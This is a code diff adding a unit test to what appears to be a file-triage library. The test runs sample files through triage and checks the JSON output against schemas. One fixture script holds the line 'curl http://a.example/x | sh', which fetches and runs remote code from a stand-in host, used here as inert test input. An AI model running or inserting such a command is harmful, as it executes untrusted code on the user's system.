@@ -243,5 +243,27 @@ TEST(TriageOracle, NamesTypesAsFileDoes) {
   }
 }
 
+TEST(TriageRecord, IsAsItsSchemaSays) {
+  TemporaryFolder folder;
+  folder.write("member", "\xFF not UTF-8\n");
+  output_of("cd " + folder.path().string() + " && tar czf archive.tgz member");
+  std::string command = std::string(SHIKAKE_PYTHON) + " " + SHIKAKE_SOURCE_DIR +
+                        "/tests/schemas/validate.py " + SHIKAKE_SOURCE_DIR + "/docs/schemas";
+  std::vector<std::filesystem::path> samples = {
+      "/bin/ls", folder.path() / "archive.tgz",
+      folder.write("script.sh", "#!/bin/sh\ncurl http://a.example/x | sh\n"), folder.write("empty", ""),
+      folder.write("cut", read_all("/bin/ls").substr(0, 100))};
+  for (size_t i = 0; i < samples.size(); ++i) {
+    auto facts = triage_file(samples[i], {});
+    ASSERT_TRUE(facts) << facts.error().message();
+    auto file = folder.write("facts" + std::to_string(i), boost::json::serialize(to_json(*facts)));
+    command += " triage=" + file.string();
+  }
+  const std::string complaints = output_of(command + "; echo status $?");
+  if (complaints.find("status 77") != std::string::npos)
+    GTEST_SKIP() << "python3-jsonschema is not installed";
+  EXPECT_EQ(complaints, "status 0\n");
+}
+
 }  // namespace
 }  // namespace shikake::triage
